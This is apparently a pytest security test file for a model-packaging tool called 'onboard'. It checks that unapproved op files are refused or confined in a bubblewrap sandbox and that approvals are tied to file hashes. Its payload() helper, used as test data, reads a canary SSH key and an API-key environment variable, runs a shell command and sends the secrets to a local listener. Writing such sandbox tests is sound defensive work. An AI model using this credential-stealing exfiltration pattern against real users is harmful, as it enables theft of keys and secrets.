"""A package's code never runs in the user's process unless the user approved it (issue 49, deliver 0).

Real `onboard` processes on a real package (new-model's, of the tiny qwen3_moe release) given a hostile op file:
valid KIND/NAME/op and a module-level payload that writes a marker, reads a canary secret from the environment
and a canary key file from the (fake) home, starts a shell command and connects to a listener this test opens.
Unapproved, `train` refuses it (exit 3, one line naming the file) and `align` runs it only in the bubblewrap
child: none of the payload's effects reach the test's files, environment or listener. Approved by the user,
it loads; edited after approval, it is refused again.
"""
from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import yaml

from onboard.sandbox.run import available_mode

SECRET = "canary-sk-6f1e0c"
KEY_CANARY = "canary-ssh-key-9d2a"
OP = 'KIND = "activation"\nNAME = "xact"\n\n\ndef op(x):\n    return x\n'

needs_bwrap = pytest.mark.skipif(available_mode() != "bwrap", reason="align confines package code with bubblewrap")


def payload(marks: Path, home: Path, port: int) -> str:
    """Module-level code that leaves a trace of each thing it reached (absolute paths of this test's folders)."""
    return f'''import os, pathlib, socket
marks = pathlib.Path({str(marks)!r})
key = ""
try:
    key = pathlib.Path({str(home / ".ssh" / "id_ed25519")!r}).read_text()
except OSError:
    pass
try:
    (marks / "wrote.txt").write_text(os.environ.get("OPENAI_API_KEY", "") + key)
except OSError:
    pass
os.system("touch " + str(marks / "shell.txt"))
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(("payload " + os.environ.get("OPENAI_API_KEY", "") + key).encode())
except OSError:
    pass
'''


class Listener:
    """A local TCP listener: what any process of this machine's network sent it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port, self.received, self.done = self.server.getsockname()[1], [], threading.Event()
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self):
        while not self.done.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                self.received.append(conn.recv(4096))

    def close(self):
        self.done.set()
        self.thread.join()
        self.server.close()


@pytest.fixture
def hostile(example_package, tmp_path, monkeypatch):
    """A copy of the qwen3_moe package, a fake home with a canary key, a marks folder, a listener, a data file,
    a store of approvals of its own; run(*args) -> CompletedProcess of `onboard ARGS` with the canary secret."""
    pkg, home, marks = tmp_path / "pkg", tmp_path / "home", tmp_path / "marks"
    shutil.copytree(example_package("qwen3_moe"), pkg)
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(KEY_CANARY)
    marks.mkdir()
    data = tmp_path / "data.jsonl"
    data.write_text("".join(json.dumps({"text": f"The mill {i} stands by the river."}) + "\n" for i in range(8)))
    monkeypatch.setenv("ONBOARD_STATE_DIR", str(tmp_path / "state"))
    listener = Listener()
    env = {**os.environ, "OPENAI_API_KEY": SECRET, "HOME": str(home), "OMP_NUM_THREADS": "1"}

    def run(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "onboard.cli", *map(str, args)], capture_output=True, text=True,
                              timeout=600, env=env)

    yield pkg, marks, home, listener, data, run
    listener.close()


def _listed(pkg: Path, name: str, kind: str = "activation", op: str = "x") -> None:
    """The file entered in package.yaml's generated_ops, as a pull request adding an op would: align then aligns
    it (confined while unapproved) instead of refusing it as no op of the package."""
    package = yaml.safe_load((pkg / "package.yaml").read_text())
    package["generated_ops"] = [*package.get("generated_ops", []), {"kind": kind, "name": op, "file": f"ops/{name}"}]
    (pkg / "package.yaml").write_text(yaml.safe_dump(package, sort_keys=False))


def _train(run, pkg: Path, data: Path, out: Path) -> subprocess.CompletedProcess:
    return run("train", pkg, "--data", data, "--steps", "1", "--seq-len", "16", "--no-progress", "--no-cuda-graph",
               "--out", out)


def _no_trace(tmp_path: Path, marks: Path, listener: Listener) -> None:
    """Nothing the payload would leave: no file in marks, no connection, the canaries in no file written."""
    assert list(marks.iterdir()) == []
    assert listener.received == []
    for path in tmp_path.rglob("*"):
        if path.is_file() and not path.is_symlink() and path.name != "id_ed25519":
            text = path.read_bytes()
            assert SECRET.encode() not in text and KEY_CANARY.encode() not in text, path


def _one_refusal(result: subprocess.CompletedProcess, *names: str) -> str:
    """Exit 3 and one refusal line naming the file, last on stderr (align's progress lines may come before it)."""
    lines = result.stderr.strip().splitlines()
    assert result.returncode == 3 and "Traceback" not in result.stderr, result.stderr[-2000:]
    refusals = [line for line in lines if line.startswith("onboard: refused: ")]
    assert refusals == lines[-1:] and all(name in lines[-1] for name in names), result.stderr[-2000:]
    return lines[-1]


@needs_bwrap
@pytest.mark.parametrize("name", ["activation_x.py", "__init__.py"])
def test_an_unapproved_op_file_reaches_nothing_of_the_user(hostile, tmp_path, name):
    pkg, marks, home, listener, data, run = hostile
    body = payload(marks, home, listener.port) + (OP if name != "__init__.py" else "")
    (pkg / "ops").mkdir()
    (pkg / "ops" / name).write_text(body)
    # the same payload run plainly does reach all four: the test would see it
    probe = subprocess.run([sys.executable, "-c", body], env={**os.environ, "OPENAI_API_KEY": SECRET}, timeout=60)
    assert probe.returncode == 0 and {p.name for p in marks.iterdir()} == {"wrote.txt", "shell.txt"}
    assert listener.received and SECRET.encode() in listener.received[0]
    shutil.rmtree(marks)
    marks.mkdir()
    listener.received.clear()
    (pkg / "ops" / name).write_text(body)

    trained = _train(run, pkg, data, tmp_path / "run")
    assert _one_refusal(trained, f"{pkg}/ops/{name} is not approved", f"onboard approve {pkg}") == trained.stderr.strip()
    assert not (tmp_path / "run").exists()

    # not listed in package.yaml: no op of the package, nothing of it runs, not even confined
    unlisted = run("align", pkg, "--tiers", "0")
    _one_refusal(unlisted, f"{pkg}/ops/{name} is not approved, and package.yaml's generated_ops does not list it")
    _no_trace(tmp_path, marks, listener)

    _listed(pkg, name)
    aligned = run("align", pkg, "--tiers", "0")
    assert f"{pkg}/ops/{name} is not approved: aligning in a confined process" in aligned.stderr
    if name == "__init__.py":
        # run in the child, where it is no generated op: refused by the child, reported here as one line
        _one_refusal(aligned, f"{pkg}/ops/__init__.py is not a generated operator")
    else:
        assert aligned.returncode == 0 and "tier 0: pass" in aligned.stdout, aligned.stderr[-2000:]
        assert json.loads((pkg / "alignment" / "report.json").read_text())["passed"]
    _no_trace(tmp_path, marks, listener)


@needs_bwrap
def test_an_op_taking_a_builtin_name_is_refused_by_align_and_train(hostile, tmp_path):
    pkg, _, _, _, data, run = hostile
    (pkg / "ops").mkdir()
    (pkg / "ops" / "activation_silu.py").write_text(
        'import torch.nn.functional as F\nKIND = "activation"\nNAME = "silu"\n\n\ndef op(x):\n    return 1.5 * F.silu(x)\n')
    file = f"{pkg}/ops/activation_silu.py"
    _listed(pkg, "activation_silu.py", op="silu")
    # unapproved: align's confined child refuses it; train refuses to run it at all
    _one_refusal(run("align", pkg, "--tiers", "0"), file, "NAME 'silu'", "built-in activation")
    _one_refusal(_train(run, pkg, data, tmp_path / "run"), file, "is not approved")
    # approved: refused in this process too, by name
    assert run("approve", pkg).returncode == 0
    _one_refusal(run("align", pkg, "--tiers", "0"), file, "NAME 'silu'", "built-in activation")
    _one_refusal(_train(run, pkg, data, tmp_path / "run"), file, "NAME 'silu'", "built-in activation")
    assert not (tmp_path / "run").exists()


def test_a_file_that_is_not_python_is_refused_by_align_and_train(hostile, tmp_path):
    pkg, _, _, _, data, run = hostile
    (pkg / "ops").mkdir()
    (pkg / "ops" / "activation_x.so").write_bytes(b"\x7fELF\x02\x01\x01")
    for approved in (False, True):
        if approved:
            listed = run("approve", pkg)
            assert listed.returncode == 0 and "activation_x.so: sha256 " in listed.stdout and "will not load" in listed.stdout
        for result in (run("align", pkg, "--tiers", "0"), _train(run, pkg, data, tmp_path / "run")):
            _one_refusal(result, f"{pkg}/ops/activation_x.so is not a Python file")


def test_align_refuses_unapproved_code_where_it_cannot_confine_it(hostile, tmp_path):
    """No bubblewrap on the PATH (the interpreter's folder only): align will not run the file unconfined."""
    pkg, marks, home, listener, _, _ = hostile
    (pkg / "ops").mkdir()
    (pkg / "ops" / "activation_x.py").write_text(payload(marks, home, listener.port) + OP)
    _listed(pkg, "activation_x.py")
    env = {**os.environ, "OPENAI_API_KEY": SECRET, "PATH": str(Path(sys.executable).parent)}
    result = subprocess.run([sys.executable, "-m", "onboard.cli", "align", str(pkg), "--tiers", "0"],
                            capture_output=True, text=True, timeout=600, env=env)
    _one_refusal(result, f"{pkg}/ops/activation_x.py is not approved", "cannot be confined here", "bubblewrap")
    _no_trace(tmp_path, marks, listener)


def test_an_approved_op_loads_and_an_edit_after_approval_is_refused(hostile, tmp_path):
    """Approval is the user's act: the op's module then runs in `train` (its marker is the proof); changing one
    byte of the file after approval makes it a file nobody approved."""
    pkg, marks, _, _, data, run = hostile
    (pkg / "ops").mkdir()
    op_file = pkg / "ops" / "activation_x.py"
    op_file.write_text(f"import pathlib\npathlib.Path({str(marks / 'loaded')!r}).touch()\n" + OP)
    (pkg / "ops" / "test_activation_x.py").write_text("def test_nothing():\n    pass\n")
    listed = run("approve", pkg)
    assert listed.returncode == 0 and listed.stdout.count(": sha256 ") == 2, listed.stdout
    store = json.loads((tmp_path / "state" / "approved_ops.json").read_text())["approved"]
    assert {r["file"] for r in store.values()} == {"ops/activation_x.py", "ops/test_activation_x.py"}
    trained = _train(run, pkg, data, tmp_path / "run")
    assert trained.returncode == 0, trained.stderr[-2000:]
    assert (marks / "loaded").exists()
    op_file.write_text(op_file.read_text() + "\n")
    _one_refusal(_train(run, pkg, data, tmp_path / "run2"), f"{op_file} is not approved")


def test_new_model_records_and_approves_the_ops_it_generated(example_release, tmp_path, monkeypatch):
    """package.yaml shows the reviewer each generated file's sha256; the user's store approves exactly those."""
    from onboard.gap.generated import GeneratedOp
    from onboard.package.approved_ops import approved_hashes
    from onboard.package.writer import write_package
    from runtime.package_ops import read_op_files

    monkeypatch.setenv("ONBOARD_STATE_DIR", str(tmp_path / "state"))
    op = GeneratedOp(kind="activation", name="relu2", file="activation_relu2.py",
                     source='KIND = "activation"\nNAME = "relu2"\n\n\ndef op(x):\n    return x.relu() ** 2\n',
                     test_source="def test_nothing():\n    pass\n", reference="transformers.activations:ACT2FN['relu2']",
                     closes={}, evidence={})
    pkg, _ = write_package(example_release("qwen3_moe"), tmp_path / "pkg", generated=[op])
    entry = yaml.safe_load((pkg / "package.yaml").read_text())["generated_ops"][0]
    files = {f.path.name: f.sha256 for f in read_op_files(pkg)}
    assert entry["sha256"] == files["activation_relu2.py"] and entry["test_sha256"] == files["test_activation_relu2.py"]
    assert approved_hashes() == set(files.values())


def test_approvals_are_written_whole_and_a_broken_store_is_one_line(tmp_path, monkeypatch, capsys):
    from onboard.cli import main

    state = tmp_path / "state"
    monkeypatch.setenv("ONBOARD_STATE_DIR", str(state))
    pkg = tmp_path / "pkg"
    (pkg / "ops").mkdir(parents=True)
    (pkg / "ops" / "activation_x.py").write_text(OP)
    assert main(["approve", str(pkg)]) == 0
    out = capsys.readouterr().out
    assert f"{pkg}/ops/activation_x.py: sha256 " in out and f"approved 1 file(s) of {pkg}/ops in {state}" in out
    # replaced atomically: the store and its lock, no temporary file left
    assert sorted(p.name for p in state.iterdir()) == [".approved_ops.json.lock", "approved_ops.json"]
    (state / "approved_ops.json").write_text("{not json")
    assert main(["approve", str(pkg)]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and err.startswith(f"onboard: error: {state}/approved_ops.json: ")


@needs_bwrap
def test_the_confined_child_sees_no_home_no_git_no_secret_and_cannot_write_the_package(hostile, tmp_path):
    """What the child can reach, asked from inside: an op module that lists what it could read or write and
    fails with that list, which the refusal line carries back."""
    pkg, _, home, _, _, run = hostile
    repo = Path(__file__).resolve().parents[2]
    common = subprocess.run(["git", "rev-parse", "--git-common-dir"], cwd=repo, capture_output=True, text=True)
    other = tmp_path / "other_project" / "notes.txt"
    other.parent.mkdir()
    other.write_text("private")
    readable = [repo / ".git", (repo / common.stdout.strip()).resolve() / "HEAD", home / ".ssh" / "id_ed25519", other]
    # from here each of them is there to read (.git: a worktree's file, or a checkout's folder with its HEAD)
    assert all(p.read_bytes() for p in readable[1:]) and (repo / ".git").exists()
    (pkg / "ops").mkdir()
    (pkg / "ops" / "activation_x.py").write_text(f'''import os, pathlib
seen = []
for path in {[str(p) for p in readable]!r}:
    try:
        if pathlib.Path(path).read_bytes():
            seen.append(path)
    except OSError:
        pass
if "OPENAI_API_KEY" in os.environ:
    seen.append("OPENAI_API_KEY")
try:
    pathlib.Path({str(pkg / "spec.json")!r}).write_text("")
    seen.append("wrote the package")
except OSError:
    pass
raise RuntimeError(f"saw {{seen}}")
''')
    _listed(pkg, "activation_x.py")
    result = run("align", pkg, "--tiers", "0")
    _one_refusal(result, f"{pkg}/ops/activation_x.py failed to load: RuntimeError: saw []")
    assert (pkg / "spec.json").read_text()
